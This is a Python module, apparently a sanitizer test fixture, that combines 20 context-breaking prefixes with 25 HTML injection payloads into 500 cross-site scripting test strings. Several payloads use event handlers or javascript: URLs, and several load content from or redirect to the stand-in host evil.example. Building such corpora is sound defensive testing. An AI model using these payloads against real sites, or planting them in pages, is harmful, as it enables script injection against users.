"""Five hundred texts made to become markup: each way out of a text, with each thing to plant."""

from __future__ import annotations

from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    '\\">',
    "&quot;>",
    "%22%3E",
    "\u2028>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</option></select>",
    "</svg>",
    "</math>",
    "</bdi></p></main>",
)
PLANTED = (
    "<img src=x data-struck onerror=alert(1)>",
    "<svg data-struck onload=alert(1)>",
    "<script data-struck>alert(1)</script>",
    "<iframe data-struck srcdoc='<script>parent.alert(1)</script>'>",
    "<details data-struck open ontoggle=alert(1)>",
    "<input data-struck autofocus onfocus=alert(1)>",
    "<video data-struck><source onerror=alert(1)>",
    "<audio data-struck src=x onerror=alert(1)>",
    "<body data-struck onload=alert(1)>",
    "<marquee data-struck onstart=alert(1)>",
    "<object data-struck data=//evil.example/x>",
    "<embed data-struck src=//evil.example/x>",
    '<a data-struck href="javascript:alert(1)">x',
    "<form data-struck action=//evil.example><button>",
    '<meta data-struck http-equiv=refresh content="0;url=//evil.example">',
    "<base data-struck href=//evil.example/>",
    "<link data-struck rel=stylesheet href=//evil.example/x.css>",
    '<style data-struck>@import "//evil.example/x.css";</style>',
    '<math data-struck><mi xlink:href="javascript:alert(1)">',
    "<button data-struck formaction=javascript:alert(1)>",
    "<dialog data-struck open>",
    "<svg><animate data-struck onbegin=alert(1) attributeName=x>",
    "<table data-struck background=//evil.example/x.png>",
    "<custom-element data-struck onpointerrawupdate=alert(1)>",
    "<x data-struck style=animation-name:x onanimationstart=alert(1)>",
)


def texts() -> list[str]:
    """All of them, each once."""
    return [way + planted for way, planted in product(WAYS_OUT, PLANTED)]
